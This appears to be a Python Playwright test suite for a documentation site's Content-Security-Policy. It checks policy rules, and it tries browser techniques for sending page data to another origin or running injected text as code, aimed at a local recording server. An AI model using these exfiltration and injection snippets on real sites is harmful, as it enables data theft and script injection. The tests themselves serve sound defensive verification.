"""The content policy: no page breaks its own, and nothing that a page is made to do reaches another origin."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from checker.web.content_policy import content_policy, with_bare_policy, with_policy
from tests.support.hosts import Host
from tests.support.questionnaire import choose, press, wait_until_ready
from tests.support.quiet import open_until_quiet
from tests.support.site import NEUTRAL
from tests.support.watching import LATER, Watched

CODE = "alert('Hello, world.');"
HASH = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
"""Of CODE, as the specification of content policies gives it."""

FORM = '<form id="checker" class="checker"></form>'
EDITIONS = {"for a host": {}, "offline": {"offline": True}, "live": {"live": True}}


def rules(html: str, **edition: bool) -> dict[str, list[str]]:
    """The policy of a page, taken apart."""
    policy = (rule.split() for rule in content_policy(html, **edition).split(";"))
    return {name: sources for name, *sources in policy}


def test_an_inline_script_is_allowed_by_its_hash() -> None:
    """And by nothing else: a page without inline scripts allows none."""
    assert rules(f"<script>{CODE}</script>")["script-src"] == ["'self'", HASH]
    assert rules(f'<script type="text/javascript">{CODE}</script>')["script-src"] == ["'self'", HASH]
    assert rules("<p>Text</p>")["script-src"] == ["'self'"]


def test_a_script_that_stands_twice_is_named_once() -> None:
    """The policy is sent with each page."""
    assert rules(f"<script>{CODE}</script><p></p><script>{CODE}</script>")["script-src"] == ["'self'", HASH]


@pytest.mark.parametrize(
    "script", ['<script src="a.js"></script>', f'<script type="application/json">{CODE}</script>'], ids=["file", "data"]
)
def test_files_and_data_need_no_hash(script: str) -> None:
    """A file of the site is allowed already, and data is never run."""
    assert rules(script)["script-src"] == ["'self'"]


@pytest.mark.parametrize("edition", EDITIONS)
def test_webassembly_runs_only_where_the_questionnaire_is(edition: str) -> None:
    """No other page needs it."""
    for html, allowed in ((FORM, True), ("<p>Text</p>", False)):
        assert ("'wasm-unsafe-eval'" in rules(html, **EDITIONS[edition])["script-src"]) is allowed


def test_workers_made_of_bytes_run_only_where_they_are_needed() -> None:
    """Python's, and from a disk also the search's."""
    assert "blob:" in rules(FORM)["worker-src"]
    assert "blob:" not in rules("<p>Text</p>")["worker-src"]
    assert "blob:" in rules("<p>Text</p>", offline=True)["worker-src"]


@pytest.mark.parametrize("edition", EDITIONS)
@pytest.mark.parametrize("html", [f"<script>{CODE}</script>", f"<script>{CODE}</script>{FORM}"], ids=["page", "check"])
def test_no_page_lets_text_become_code_or_answers_leave(html: str, edition: str) -> None:
    """Everything is forbidden that is not named, and no name is that of another host, or of all."""
    policy = rules(html, **EDITIONS[edition])
    assert policy["default-src"] == policy["form-action"] == policy["base-uri"] == ["'none'"]
    assert policy["connect-src"] == (["'none'"] if edition == "offline" else ["'self'"])
    assert ("'unsafe-inline'" in policy["script-src"]) is (edition == "live")
    sources = {source for name in policy for source in policy[name]} - {HASH, "'unsafe-inline'"}
    assert sources <= {
        "'none'",
        "'self'",
        "'wasm-unsafe-eval'",
        "blob:",
        "data:",
        *(["file:"] * (edition == "offline")),
    }


def test_the_policy_comes_before_everything_that_it_governs() -> None:
    """A script that stands before a policy runs without it."""
    page = f"<!doctype html><html><head><script>{CODE}</script></head><body></body></html>"
    start, _, rest = with_policy(page, offline=False, live=False).partition("<meta ")
    assert start == "<!doctype html><html><head>"
    assert rest.startswith(f'http-equiv="Content-Security-Policy" content="{content_policy(page)}">')


@pytest.mark.parametrize("edition", EDITIONS)
def test_an_inline_style_is_allowed_by_its_hash(edition: str) -> None:
    """Only that of the page that the questionnaire may turn into; others have none."""
    assert HASH in rules(f"<template><style>{CODE}</style></template>", **EDITIONS[edition])["style-src"]
    assert HASH not in rules("<p>Text</p>", **EDITIONS[edition])["style-src"]


def test_a_page_that_is_complete_by_itself_may_do_nothing() -> None:
    """But for its own style and its icon."""
    page = with_bare_policy(f"<head><style>{CODE}</style></head>")
    assert page.startswith(
        '<head><meta http-equiv="Content-Security-Policy" content="'
        f"default-src 'none'; style-src {HASH}; img-src data:; form-action 'none'; base-uri 'none'\">"
    )


@pytest.mark.parametrize("html", ["<body></body>", "<head></head><head></head>"], ids=["none", "two"])
def test_a_page_without_one_head_ends_the_build(html: str) -> None:
    """Rather than being published without a policy."""
    with pytest.raises(ValueError, match="head"):
        with_policy(html, offline=False, live=False)


def use(page: Page) -> None:
    """Do on a page what a reader on a phone does on any: search, another colour scheme, the menu."""
    page.locator("label[for=__search]").first.click()
    page.locator(".md-search__input").press_sequentially("lawyer")
    expect(page.locator(".md-search-result__link").first).to_be_visible()
    page.keyboard.press("Escape")
    scheme = page.locator("body").get_attribute("data-md-color-scheme") or ""
    page.locator("[data-md-component=palette] label:visible").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme)
    page.locator("label.md-header__button[for=__drawer]").click()
    expect(page.locator(".md-nav--primary")).to_be_in_viewport()


def test_no_page_breaks_its_policy(page: Page, site: Path, host_at_root: Host) -> None:
    """Each page as it opens and as it is used, the page for lost readers among them."""
    watched = Watched(page)
    names = sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))
    assert {"index.html", "check/index.html", "404.html", NEUTRAL} < set(names)
    for name in names:
        open_until_quiet(page, f"{host_at_root.origin}/{name.removesuffix('index.html')}")
        # There is nothing to use on the page for those who leave fast.
        if name != NEUTRAL:
            use(page)
        assert watched.found == [], name


def test_the_check_does_not_break_its_policy(page: Page, host: Host) -> None:
    """From the first answer, which fetches Python, to the outcome; in a folder of a host."""
    watched = Watched(page)
    page.goto(f"{host.site}check/")
    choose(page, {"location": "inside_us", "inadmissible": "yes"})
    press(page)
    use(page)
    assert watched.found == []


class Elsewhere(ThreadingHTTPServer):
    """Another origin, which notes what reaches it. Nothing must."""

    daemon_threads = True

    def __init__(self) -> None:
        self.arrived: Queue[str] = Queue()
        super().__init__(("127.0.0.1", 0), _Noting)
        self.address = f"http://127.0.0.1:{self.server_port}/answers?inside_us"


class _Noting(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.arrived.put(self.path)
        self.send_error(404)

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Another origin."""
    with Elsewhere() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def lawless_page(context: BrowserContext, host: Host) -> Page:
    """A file of the site that has no policy: what can be done there is a deed, and not a mistake of the test."""
    page = context.new_page()
    page.goto(f"{host.site}assets/checker/licences.txt")
    return page


def element(name: str, attributes: str) -> str:
    """A script that puts an element into the page."""
    return f'document.body.append(Object.assign(document.createElement("{name}"), {{{attributes}}}))'


SENDING = {
    "fetch": ("connect-src", 'fetch(address, { mode: "no-cors" })'),
    "request": ("connect-src", 'const request = new XMLHttpRequest(); request.open("POST", address); request.send()'),
    "socket": ("connect-src", 'new WebSocket(address.replace("http", "ws"))'),
    "events": ("connect-src", "new EventSource(address)"),
}
"""What the page and a worker can both do: which rule forbids it, and how it is done. More need a page, or a worker."""

FROM_THE_PAGE = SENDING | {
    "beacon": ("connect-src", "navigator.sendBeacon(address)"),
    "ping": ("connect-src", f"{element('a', "id: 'pinging', href: '#', ping: address")}; pinging.click()"),
    "picture": ("img-src", element("img", "src: address")),
    "background": ("img-src", "document.body.style.backgroundImage = `url(${address})`"),
    "script": ("script-src-elem", element("script", "src: address")),
    "module": ("script-src-elem", "import(address)"),
    "style": ("style-src-elem", element("link", "rel: 'stylesheet', href: address")),
    "font": ("font-src", 'new FontFace("font", `url(${address})`).load()'),
    "video": ("media-src", element("video", "src: address")),
    "frame": ("frame-src", element("iframe", "src: address")),
    "object": ("object-src", element("object", "data: address")),
    "form": ("form-action", f"{element('form', "id: 'sending', method: 'post', action: address")}; sending.submit()"),
}
FROM_A_WORKER = SENDING | {
    "script": ("script-src-elem", "importScripts(address)"),
    "module": ("script-src-elem", "import(address)"),
}

RUN = "globalThis.ran = true"
BECOMING_CODE = {
    "inline script": ("script-src-elem", element("script", f"textContent: '{RUN}'")),
    "handler": ("script-src-attr", f'document.body.setAttribute("onclick", "{RUN}"); document.body.click()'),
    "script address": (
        "script-src-elem",
        f"{element('a', f"id: 'running', href: 'javascript:{RUN}'")}; running.click()",
    ),
    "eval": ("script-src", f'eval("{RUN}")'),
    "function": ("script-src", f'new Function("{RUN}")()'),
    "timer": ("script-src", f'setTimeout("{RUN}")'),
}

IN_A_WORKER = """(address) => new Promise((resolve) => {
    const code = `
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => postMessage(effectiveDirective));
        const address = ${JSON.stringify(address)};
        DEED;`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    worker.addEventListener("message", ({ data }) => resolve(data));
    setTimeout(() => resolve(null), 15000);
})"""


@pytest.mark.parametrize("deed", FROM_THE_PAGE)
def test_the_page_sends_nothing_elsewhere(
    page: Page, lawless_page: Page, host: Host, elsewhere: Elsewhere, deed: str
) -> None:
    """The policy forbids it and nothing arrives; without the policy, the same does arrive."""
    rule, script = FROM_THE_PAGE[deed]
    page.goto(f"{host.site}check/")
    assert page.evaluate(LATER.replace("DEED", script), elsewhere.address) == rule
    assert elsewhere.arrived.empty()
    lawless_page.evaluate(f"(address) => {{ setTimeout(() => {{ {script}; }}); }}", elsewhere.address)
    assert elsewhere.arrived.get(timeout=30) in elsewhere.address


@pytest.mark.parametrize("deed", FROM_A_WORKER)
def test_a_worker_made_of_bytes_sends_nothing_elsewhere(
    page: Page, lawless_page: Page, host: Host, elsewhere: Elsewhere, deed: str
) -> None:
    """Python's worker is made so: the policy of the page is its policy."""
    rule, script = FROM_A_WORKER[deed]
    page.goto(f"{host.site}check/")
    assert page.evaluate(IN_A_WORKER.replace("DEED", script), elsewhere.address) == rule
    assert elsewhere.arrived.empty()
    lawless_page.evaluate(f"(address) => {{ ({IN_A_WORKER.replace('DEED', script)})(address); }}", elsewhere.address)
    assert elsewhere.arrived.get(timeout=30) in elsewhere.address


@pytest.mark.parametrize("deed", ["request", "socket", "events"])
def test_python_sends_nothing_elsewhere(page: Page, host: Host, elsewhere: Elsewhere, deed: str) -> None:
    """The real worker, with the answers in it. (It has replaced its own fetch.)"""
    rule, script = SENDING[deed]
    page.goto(f"{host.site}check/")
    choose(page, {"location": "inside_us"})
    wait_until_ready(page)
    (worker,) = (worker for worker in page.workers if worker.url.startswith("blob:"))
    assert worker.evaluate(LATER.replace("DEED", script), elsewhere.address) == rule
    assert elsewhere.arrived.empty()


def test_only_the_questionnaire_makes_a_worker_of_bytes(page: Page, host: Host) -> None:
    """On any other page, that is somebody else's."""
    page.goto(host.site)
    assert page.evaluate(LATER.replace("DEED", 'new Worker(URL.createObjectURL(new Blob([""])))')) == "worker-src"


@pytest.mark.parametrize("path", ["", "check/"], ids=["home", "check"])
@pytest.mark.parametrize("deed", BECOMING_CODE)
def test_text_does_not_become_code(page: Page, lawless_page: Page, host: Host, path: str, deed: str) -> None:
    """Whatever gets text into a page does not get a program in; without the policy, it would."""
    rule, script = BECOMING_CODE[deed]
    page.goto(host.site + path)
    assert page.evaluate(LATER.replace("DEED", script)) == rule
    assert not page.evaluate("globalThis.ran")
    lawless_page.evaluate(f"() => {{ setTimeout(() => {{ {script}; }}); }}")
    lawless_page.wait_for_function("globalThis.ran")
